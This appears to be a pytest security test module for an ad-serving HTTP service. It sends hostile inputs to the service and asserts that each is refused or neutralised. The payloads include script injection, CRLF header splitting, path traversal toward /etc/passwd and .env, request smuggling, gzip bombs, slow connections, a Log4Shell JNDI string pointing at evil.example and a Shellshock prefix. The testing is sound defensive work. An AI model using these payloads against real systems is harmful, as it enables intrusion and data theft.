"""Hostile input on the running service: never a 500, a hang, a forged log line, a new metric label or a new Redis key.

What was really sent to ad servers, and what the stack lets through, line by line. A line that is not here is tested
where its subject is:

    slot ids, 101 ids, many slots in one body        here; test_delivery
    click parameters, open redirects                 test_tracking
    forged, truncated, expired, foreign tokens       test_tracking
    one token many times, on all workers             test_tracking
    methods, prefetch, robots, no User-Agent         test_tracking
    CR, LF, NUL in path, query and header            here; in configuration: tests of config_files
    quotes and schemes in catalog fields             tests of fields and render; query parameters: here
    path suffixes, JSON read as a page               here; test_delivery
    names that look alike, targeting rules           tests of fields and targeting
    gzip bombs, not UTF-8, too large                 here; test_delivery; JSON bodies: console/test_api
    bodies made to hurt parsers                      test_delivery
    slow, idle and malformed connections             here; tests of http_limits
    forwarded headers, Host, Origin                  here; test_ops; test_delivery
    paging and ranges                                test_report
    bad configurations                               test_reload; tests of catalog and config_files
    a store that is away, wiped or overwritten       test_outage
    two instances on one store                       tests of neighbours
    YAML                                             no YAML is read
    creative checker (SSRF)                          the service fetches nothing
    macros in snippets                               tests of render; the query is never reflected: here
    console: CSRF, login, framing                    console/test_rules, test_signin, test_throttle
    uploads, names with markup, formulas             console/test_pictures, test_hostile_names, test_sheets
    images, locks, audits, Kubernetes                tests/ops
"""

import gzip
import os
import re
import socket
import time
from collections.abc import Callable, Iterator
from contextlib import ExitStack, suppress

import httpx
import pytest

from tests.service.live import Service, client, eventually, tokens
from tests.service.load import readers_of

EVIL = "evil.example"


@pytest.fixture(scope="module")
def service(new_service: Callable[..., Service]) -> Service:
    service = new_service("--access-log", environ={"ADSERVER_REQUEST_TIMEOUT_S": "2"})
    service.start()
    service.http.get("/ads/889990")
    eventually(lambda: service.counts()["served"] == 1, 10, "the first count, which makes the day's key")
    return service


@pytest.fixture(scope="module")
def whole(service: Service) -> tuple[set[str], list[object], set[bytes]]:
    """The series, the workers and the store's keys before anything hostile came."""
    return set(service.series()), list(service.workers()), store_keys(service)


@pytest.fixture(autouse=True)
def unharmed(service: Service, whole: tuple[set[str], list[object], set[bytes]]) -> Iterator[None]:
    """Whatever a test did: no 500, no worker died, no traceback, no new series, no key that is not ours."""
    yield
    now = service.series()
    assert (set(now), service.workers(), store_keys(service)) == whole
    assert not any(n for name, n in now.items() if 'status="500"' in name)
    assert "Traceback" not in service.log()
    assert service.http.get("/readyz").json()["status"] == "ok"


def store_keys(service: Service) -> set[bytes]:
    with service.redis() as store:
        by_day = b"as:{curves}:", b"as:{pace}:ages:"  # one per day, and slot, whatever comes
        return {key for key in store.scan_iter() if not key.startswith(by_day)}


def ask(service: Service, line: str, *fields: str, body: bytes = b"") -> tuple[int, bytes]:
    """The status and all bytes of an answer to a request that no client library would send."""
    head = "\r\n".join([f"{line} HTTP/1.1", "Host: localhost", "Connection: close", *fields, "", ""])
    answer = service.raw(head.encode("latin-1") + body)
    return int(answer.split(b" ", 2)[1]), answer


# Ids

IDS = [
    "-1", "0", "+889990", "889_990", "99999999999999999999", "8.9e5", "1e5", "0x1", "2147483648", "4294967296",
    "0889990", "1" + "0" * 30, "9" * 1900, "%EF%BC%98%EF%BC%98%EF%BC%99%EF%BC%99%EF%BC%99%EF%BC%90",
    "%D9%A8%D9%A8%D9%A9", "889990%20", "%20889990", "../889990", "..%2f889990", "889990/", "889990/x.bat",
    "889990.json", "889990;a", "%38%38%39%39%39%30", "null", "NaN",
]  # fmt: skip


@pytest.mark.parametrize("slot", IDS)
def test_odd_slot_id_is_unknown(service: Service, slot: str) -> None:
    """
    What is not one of the slots, spelled as configured, is 404 in words, whatever int() would make of it.
    """
    status, answer = ask(service, f"GET /ads/{slot}")

    assert status == 404
    assert b"application/problem+json" in answer


@pytest.mark.parametrize("slot", ["889990%00", "889990%0a", "%0d%0aSet-Cookie:%20a=b", "%ff", "%c0%ae%c0%ae"])
def test_slot_id_with_control_characters_is_refused(service: Service, slot: str) -> None:
    """
    Control characters and what is not UTF-8 in a path never reach a handler.
    """
    status, answer = ask(service, f"GET /ads/{slot}")

    assert status == 400
    assert b"set-cookie" not in answer.lower()


def test_odd_ids_of_a_page_call_are_entries_without_an_ad(service: Service) -> None:
    """
    In the page call an odd id is an unknown slot, in its place, and counted once each.
    """
    series = 'adserver_unfilled_total{reason="unknown-slot"}'
    before = service.metric(series)
    odd = [
        "-1",
        "0",
        "+889990",
        " 889990",
        "889990\n",
        "８８９９９０",
        "1e5",
        "9" * 200,
        "a\u202eb",
        "<script>",
        "",
        "\x00",
    ]

    ads = service.http.get("/ads", params={"id": [*odd, "889990"]}).json()["ads"]

    assert len(ads) == len(odd) + 1
    assert [ad["reason"] for ad in ads.values()] == ["unknown-slot"] * len(odd) + [None]
    assert max(map(len, ads)) <= 64
    eventually(lambda: service.metric(series) - before == len(odd), 10, "one count each")


def test_twenty_thousand_slots_in_one_body_are_refused(service: Service) -> None:
    """
    A small article cannot make a huge answer: more than 100 shortcodes are refused before any work.
    """
    article = '[the_ad id="889990"]' * 20_000
    began = time.monotonic()

    answer = service.http.post("/render", content=article, headers={"content-type": "text/html"})

    assert answer.status_code == 400
    assert len(answer.content) < 1000
    assert time.monotonic() - began < 2


def test_many_query_parameters_are_refused(service: Service) -> None:
    """
    A query of hundreds of parameters is refused in words.
    """
    answer = service.http.get("/ads?" + "&".join(["a"] * 300))

    assert answer.status_code == 400
    assert "256" in answer.json()["detail"]


# Reflection and injection

POISON = [
    '"><script>alert(1)</script>',
    "javascript:alert(1)",
    "</script><svg onload=x>",
    "\u202egnp.exe",
    "'`onload=",
    "\r\nSet-Cookie: a=b",
]
PARAMETERS = [
    "url",
    "section",
    "tag",
    "lang",
    "country",
    "device",
    "reader",
    "ua",
    "consent",
    "click_url",
    "dest",
    "cb",
]


@pytest.mark.parametrize("poison", POISON)
def test_query_is_never_echoed(service: Service, poison: str) -> None:
    """
    Nothing of a query comes back, in a body or a header, from any delivery call.
    """
    params = dict.fromkeys(PARAMETERS, poison + "PEPPERMINT")
    http = service.http

    answers = [
        http.get("/ads/889990", params=params),
        http.get("/ads", params={**params, "id": "889990"}),
        http.post("/render", params=params, content="[the_ad id=889990]", headers={"content-type": "text/html"}),
        http.get("/", params=params),
        http.get("/readyz", params=params),
        http.get("/api/report", params=params),
        http.get("/ads/889990", params={"format": poison + "PEPPERMINT"}),
        http.get("/api/report", params={"by": poison + "PEPPERMINT", "from": poison + "PEPPERMINT"}),
        http.get(f"/c/{service.token()}", params=params),
    ]

    assert [answer.status_code for answer in answers] == [200] * 6 + [400, 400, 302]
    for answer in answers:
        assert "PEPPERMINT" not in answer.text
        assert "PEPPERMINT" not in str(answer.headers)
        assert "set-cookie" not in answer.headers


@pytest.mark.parametrize(
    "name", ['"><script>PEPPERMINT', "889990\r\nSet-Cookie: PEPPERMINT", "é" * 20, "x" * 500, "a,b"]
)
def test_shortcode_ids_that_could_harm_a_header_are_in_none(service: Service, name: str) -> None:
    """
    Adserver-Unknown names plain ids only; the shortcode becomes nothing all the same.
    """
    article = f"A[the_ad id='{name}']B"

    answer = service.http.post("/render", content=article.encode(), headers={"content-type": "text/plain"})

    assert answer.status_code == 200
    assert "PEPPERMINT" not in str(answer.headers)
    assert re.fullmatch("[a-z0-9_-]{0,64}", answer.headers.get("adserver-unknown", ""))
    assert "[the_ad" not in answer.text


@pytest.mark.parametrize(
    "fields",
    [
        (f"Host: {EVIL}",),
        (f"X-Forwarded-Host: {EVIL}", "X-Forwarded-Proto: javascript"),
        (f"Forwarded: for=1.2.3.4;host={EVIL};proto=javascript",),
        ("X-Forwarded-For: " + ", ".join(["1.2.3.4"] * 50),),
        (f"X-Original-URL: /c/{EVIL}", f"X-Rewrite-URL: http://{EVIL}/"),
    ],
)
def test_absolute_addresses_do_not_follow_the_request(service: Service, fields: tuple[str, ...]) -> None:
    """
    Host and forwarded headers of a stranger change no URL, no redirect and no body.
    """
    host = [] if any(field.startswith("Host") for field in fields) else ["Host: localhost"]
    for path in (
        "/ads/889990",
        "/ads?id=889990",
        "/",
        "/openapi.json",
        "/c/x",
        "/readyz/",
        "/assets/",
        "/sample/page.css/",
    ):
        head = "\r\n".join([f"GET {path} HTTP/1.1", *host, "Connection: close", *fields, "", ""])
        answer = service.raw(head.encode())
        assert EVIL.encode() not in answer
        assert b"javascript:" not in answer
        assert b" 307 " not in answer


def test_forwarded_address_of_a_stranger_is_not_believed(service: Service) -> None:
    """
    Without a trusted proxy the access log shows the peer's own network, whatever headers say.
    """
    service.http.get("/marker-a", headers={"x-forwarded-for": "203.0.113.9"})

    eventually(lambda: "/marker-a" in service.log(), 5, "the access log")
    line = next(line for line in service.log().splitlines() if "/marker-a" in line)
    assert "203.0.113" not in line
    assert "127.0.0.0" in line


def test_unkeyed_headers_do_not_change_a_snippet(service: Service) -> None:
    """
    A shared cache cannot be poisoned: placeholders are the same whatever else a request says.
    """
    plain = service.http.get("/ads/889983?format=placeholder")
    headers = {
        "accept-language": "xx",
        "x-forwarded-host": EVIL,
        "cookie": "a=b",
        "referer": f"http://{EVIL}/",
        "accept": "image/*",
    }

    odd = service.http.get("/ads/889983?format=placeholder&utm=1", headers=headers)

    assert odd.content == plain.content


# Bodies


def test_compressed_body_is_not_decompressed(service: Service) -> None:
    """
    A gzip bomb is refused by its header, before a byte of it is looked at.
    """
    bomb = gzip.compress(b"\0" * 10_000_000)
    for path in ("/render", f"/i/{service.token()}"):
        headers = {"content-type": "text/html", "content-encoding": "gzip"}
        assert service.http.post(path, content=bomb, headers=headers).status_code == 415


@pytest.mark.parametrize("body", [b"\xff\xfe<\0p\0", b"\xed\xa0\x80", b"abc\xc0\x80", b"\xf5\x80\x80\x80"])
def test_body_that_is_not_utf8_is_refused(service: Service, body: bytes) -> None:
    """
    UTF-16, lone surrogates, overlong forms: 400 in words.
    """
    answer = service.http.post("/render", content=body, headers={"content-type": "text/html"})

    assert answer.status_code == 400
    assert "UTF-8" in answer.json()["detail"]


def test_byte_order_mark_is_kept(service: Service) -> None:
    """
    A BOM is a part of the article and comes back with it.
    """
    article = b'\xef\xbb\xbfA[the_ad id="889990"]'

    answer = service.http.post("/render", content=article, headers={"content-type": "text/plain"})

    assert answer.content.startswith(b"\xef\xbb\xbfA<aside")


def test_body_announced_and_never_sent_is_ended(service: Service) -> None:
    """
    A body that does not come is given up within the time a request may take.
    """
    began = time.monotonic()

    answer = service.raw(
        b"POST /render HTTP/1.1\r\nHost: a\r\nContent-Type: text/html\r\nContent-Length: 100\r\n\r\nabc", within_s=10
    )

    assert time.monotonic() - began < 5
    assert answer.startswith(b"HTTP/1.1 408 ")


# Connections


def test_requests_no_browser_sends_are_refused(service: Service) -> None:
    """
    Smuggling, folded headers, two hosts, HTTP/0.9 and the like get one 400-class problem and a closed connection.
    """
    host = b"Host: a\r\n"
    for request, status in (
        (
            b"POST /render HTTP/1.1\r\n" + host + b"Content-Length: 3\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n",
            400,
        ),
        (b"POST /render HTTP/1.1\r\n" + host + b"Transfer-Encoding: xchunked\r\n\r\n0\r\n\r\n", 400),
        (b"POST /render HTTP/1.1\r\n" + host + b"Content-Length: +3\r\n\r\nabc", 400),
        (b"GET /ads/889990 HTTP/1.1\r\nHost: a\r\nHost: b\r\n\r\n", 400),
        (b"GET /ads/889990 HTTP/1.1\r\n\r\n", 400),
        (b"GET /ads/889990\r\n\r\n", 400),
        (b"GET /ads/889990 HTTP/1.1\nHost: a\n\n", 400),
        (b"GET /ads/889990 HTTP/1.1\r\nHost: a\r\nX: a\r\n b\r\n\r\n", 400),
        (b"GET /ads/889990 HTTP/1.1\r\nHost: a\r\nX: a\0b\r\n\r\n", 400),
        (b"GET http://evil.example/ads/889990 HTTP/1.1\r\nHost: a\r\n\r\n", 400),
        (b"GET /ads/889990 HTTP/1.1\r\nHost: a\r\n" + b"X: a\r\n" * 5000 + b"\r\n", 431),
        (b"GET /ads/889990 HTTP/1.1\r\nHost: a\r\nX: " + b"a" * 1_000_000 + b"\r\n\r\n", 431),
        (b"GET /" + b"a" * 100_000 + b" HTTP/1.1\r\nHost: a\r\n\r\n", 414),
        (b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03", 400),
    ):
        answer = service.raw(request)
        assert answer.startswith(b"HTTP/1.1 %d " % status), (request[:80], answer[:80])
        assert len(re.findall(rb"HTTP/1\.1 \d{3} ", answer)) == 1
        assert b"application/problem+json" in answer
        assert b"no-store" in answer


def test_slow_and_idle_connections_do_not_disturb_readers(service: Service) -> None:
    """
    Beside hundreds of connections that send nothing, or a byte now and then, readers are served as ever.
    """
    with ExitStack() as crowd:
        for n in range(400):
            one = crowd.enter_context(socket.create_connection(("127.0.0.1", service.port), 5))
            if n % 2:
                one.sendall(b"GET /ads/889990 HTTP/1.1\r\nHost: a\r\nX-Slow: ")
        with readers_of(service, 4) as load:
            eventually(lambda: load.views > 100, 20, "page views beside a crowd")
        assert load.unexpected() == {}
        assert load.unanswered == []


def test_slow_header_is_closed_in_time(service: Service) -> None:
    """
    A header that is never finished is closed within the time a request may take, 5 s by default and 2 s here.
    """
    began = time.monotonic()

    answer = service.raw(b"GET /ads/889990 HTTP/1.1\r\nHost: a\r\nX-Slow: ")

    assert answer.startswith(b"HTTP/1.1 408 ")
    assert time.monotonic() - began < 5


def test_pipelined_requests_are_answered_in_order(service: Service) -> None:
    """
    Requests sent ahead are answered one after another on their connection.
    """
    one = b"GET /ads/889990 HTTP/1.1\r\nHost: a\r\n\r\n"
    last = b"GET /healthz HTTP/1.1\r\nHost: a\r\nConnection: close\r\n\r\n"

    answer = service.raw(one * 5 + last)

    assert answer.count(b"HTTP/1.1 200 ") == 6
    assert answer.endswith(b"ok\n")


# Floods


def test_floods_of_inventions_make_no_series_and_no_keys(service: Service) -> None:
    """
    Thousands of random ids, paths, methods, names and tokens leave the number of series and keys as it was.
    """
    series, keys = set(service.series()), store_keys(service)
    noise = (os.urandom(6).hex() for _ in range(100_000))
    with service.connection() as http:
        for n in range(400):
            word = next(noise)
            for path in (f"/ads/{n}", f"/{word}", f"/ads?id={word}", f"/i/{word}", f"/assets/{word}.png"):
                answer = http.get(path, headers={"user-agent": word, "x-request-id": word, "referer": word})
                assert answer.status_code in (200, 404)
    with service.connection() as http:
        for _ in range(100):
            assert http.request(next(noise).upper()[:4].translate(DIGITS), "/ads/889990").status_code in (400, 405)
    for _ in range(50):
        ask(service, f"{next(noise).upper()} /ads/889990")

    assert set(service.series()) == series
    assert store_keys(service) == keys


DIGITS = str.maketrans("0123456789", "GHIJKLMNOP")


def test_keys_in_the_store_are_all_ours(service: Service) -> None:
    """
    Every key begins with our own prefix.
    """
    assert all(key.startswith(b"as:") for key in store_keys(service))


def test_keys_of_other_programs_are_left_alone(service: Service) -> None:
    """
    What others keep on the same server stays as it is.
    """
    with service.redis() as store:
        store.set("other:program", "1")
        try:
            service.http.get(f"/i/{service.token()}")
            assert store.get("other:program") == b"1"
        finally:
            store.delete("other:program")


# Logs


def test_log_lines_cannot_be_forged(service: Service) -> None:
    """
    Line ends, terminal escapes and format characters of a path are shown, not obeyed, and long ones are cut.
    """
    for path in (
        "/a%C2%85b",
        "/a%E2%80%A8FORGED",
        "/%25n%25s",
        "/%E2%80%AEFORGED",
        "/" + "z" * 1900,
        "/%C2%9B31mFORGED",
    ):
        ask(service, f"GET {path}", "User-Agent: %1b[31mFORGED", 'X-Request-Id: a" FORGED')
    assert ask(service, "GET /escape", "User-Agent: \x1b[31mFORGED")[0] == 400

    eventually(lambda: "zzz" in service.log(), 5, "the access log")
    log = service.log()
    assert not re.search("^FORGED", log, re.MULTILINE)
    assert not re.search("[\x00-\x09\x0b-\x1f\x7f-\x9f\u2028\u2029\u202a-\u202e]", log)
    assert max(map(len, log.splitlines())) < 1000


@pytest.mark.parametrize(
    "agent", ["\xff\xfe", "Mozilla " * 1000, "é", "%n%s%x", "${jndi:ldap://evil.example/a}", "() { :; }"]
)
def test_any_user_agent_is_taken(service: Service, agent: str) -> None:
    """
    A User-Agent is bytes: whatever is in it, the beacon is answered.
    """
    status, _ = ask(service, f"GET /i/{service.token()}", f"User-Agent: {agent}")

    assert status == 200


def test_files_outside_the_assets_are_not_served(service: Service) -> None:
    """
    No spelling of a path leads out of the assets or the sample's two files.
    """
    for path in (
        "/assets/../keys", "/assets/..%2fkeys", "/assets/%2e%2e/keys", "/assets/....//keys", "/assets//etc/passwd",
        "/sample/../openapi.py", "/sample/page.html", "/sample/..%2f__init__.py", "/assets/..%5ckeys", "/.env",
    ):  # fmt: skip
        assert ask(service, f"GET {path}")[0] == 404


def test_json_says_it_is_json(service: Service) -> None:
    """
    JSON opened as a page is never taken for HTML.
    """
    for path in ("/ads?id=%3Cscript%3E", "/api/report", "/ads/x", "/api/report?by=%3Cscript%3E"):
        answer = service.http.get(path)
        assert answer.headers["content-type"] in ("application/json", "application/problem+json")
        assert answer.headers["x-content-type-options"] == "nosniff"


def test_errors_are_never_stored(service: Service) -> None:
    """
    No cache keeps an error.
    """
    http = service.http
    answers = [
        http.get("/ads/1"), http.get("/nothing"), http.get("/ads"), http.post("/ads/1"), http.get("/assets/x"),
        http.get("/api/report?by=x"), http.post("/render", content=b"\xff", headers={"content-type": "text/html"}),
        http.get("/ads/1?format=placeholder"), http.get("/ads?format=x"), http.delete("/metrics"),
    ]  # fmt: skip

    assert {answer.headers["cache-control"] for answer in answers} == {"no-store"}
    assert all(400 <= answer.status_code < 500 for answer in answers)


def test_reader_key_is_kept_nowhere(service: Service) -> None:
    """
    What a site calls its reader is in no log, no metric, no journal and no store.
    """
    secret = "reader-PEPPERMINT-7"
    for token in tokens(service.http.get(f"/ads?id=889990&id=889991&reader={secret}").text):
        service.http.get(f"/i/{token}?reader={secret}", headers={"referer": f"https://a/{secret}"})
    eventually(service.settled, 10, "counts")

    assert secret not in service.log()
    for path in service.data.rglob("*"):
        if path.is_file():
            assert secret.encode() not in path.read_bytes()


def test_connection_cut_in_the_middle_leaves_no_trace(service: Service) -> None:
    """
    Readers that leave before their answer are nothing to log or to count as an error.
    """
    before = service.log().count("error")
    for _ in range(50):
        with suppress(OSError), socket.create_connection(("127.0.0.1", service.port), 5) as one:
            one.sendall(b"POST /render HTTP/1.1\r\nHost: a\r\nContent-Type: text/html\r\nContent-Length: 9\r\n\r\nab")
    with client(service.url) as http, suppress(httpx.TransportError):
        http.get("/healthz")

    assert service.log().count("error") == before
